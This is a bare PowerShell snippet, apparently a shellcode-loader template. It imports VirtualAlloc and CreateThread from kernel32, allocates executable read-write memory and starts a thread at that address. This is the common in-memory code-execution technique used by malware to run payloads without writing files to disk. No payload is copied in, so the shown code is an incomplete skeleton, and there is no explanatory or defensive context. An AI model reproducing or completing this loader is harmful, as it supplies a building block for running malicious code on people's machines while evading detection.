$t=@'
[DllImport("kernel32.dll")] public static extern IntPtr VirtualAlloc(IntPtr a, uint b, uint c, uint d);
[DllImport("kernel32")] public static extern IntPtr CreateThread(IntPtr a, uint b, IntPtr c, IntPtr d, uint e, IntPtr f);
'@
$w=Add-Type -MemberDefinition $t -Name 'W32' -Namespace Fn -PassThru
$m=$w::VirtualAlloc(0,0x1000,0x3000,0x40)
[Fn.W32]::CreateThread(0,0,$m,0,0,0)